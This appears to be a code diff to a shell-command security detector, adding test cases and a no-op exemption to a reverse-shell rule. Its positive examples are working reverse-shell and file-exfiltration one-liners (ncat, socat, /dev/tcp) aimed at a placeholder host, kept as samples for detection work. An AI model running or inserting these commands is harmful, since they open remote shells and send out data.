@@ -1045,6 +1045,8 @@ def dns_exfil(cmd: SimpleCommand, sc: Scope) -> str | None:
         "ncat 203.0.113.5 4444 -e /bin/bash",
         "socat TCP-LISTEN:4444,fork EXEC:'bash -li',pty,stderr",
         "socat TCP:203.0.113.5:4444 SYSTEM:'tar -cf - .'",
+        "exec 3<>/dev/tcp/203.0.113.5/4444; sh <&3 >&3 2>&3",
+        "sh -i 5<> /dev/tcp/203.0.113.5/4444 0<&5 1>&5 2>&5",
     ),
     no_match=(
         "nc -z localhost 5432",
@@ -1053,10 +1055,11 @@ def dns_exfil(cmd: SimpleCommand, sc: Scope) -> str | None:
         "socat - TCP:localhost:8080",
         "socat TCP-LISTEN:8080,fork,reuseaddr SYSTEM:date",
         "socat -u EXEC:'git log -1' STDOUT",
+        "timeout 1 bash -c '</dev/tcp/db.example.com/5432' && echo open",
     ),
 )
 def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
-    if not _only_sends(cmd):
+    if not _only_sends(cmd) and cmd.name not in _NO_OPS:
         for r in cmd.redirects:
             if r.target is not None and r.target.value.startswith(_SOCKETS):
                 return f"{cmd.name} connects its input or output to {r.target.value}"
@@ -1096,6 +1099,9 @@ def reverse_shell(cmd: SimpleCommand, sc: Scope) -> str | None:
 
 
 _SOCKETS = ("/dev/tcp/", "/dev/udp/")
+# Commands that run nothing: a redirection alone (`</dev/tcp/db/5432`, read as `:`) opens the socket and closes it, the
+# port probe of `timeout 1 bash -c '</dev/tcp/HOST/PORT'`; nothing reads from it or writes to it.
+_NO_OPS = frozenset({":", "true", "false"})
 
 
 def _program_reads_secrets(prog: str, cmd: SimpleCommand, sc: Scope) -> bool:
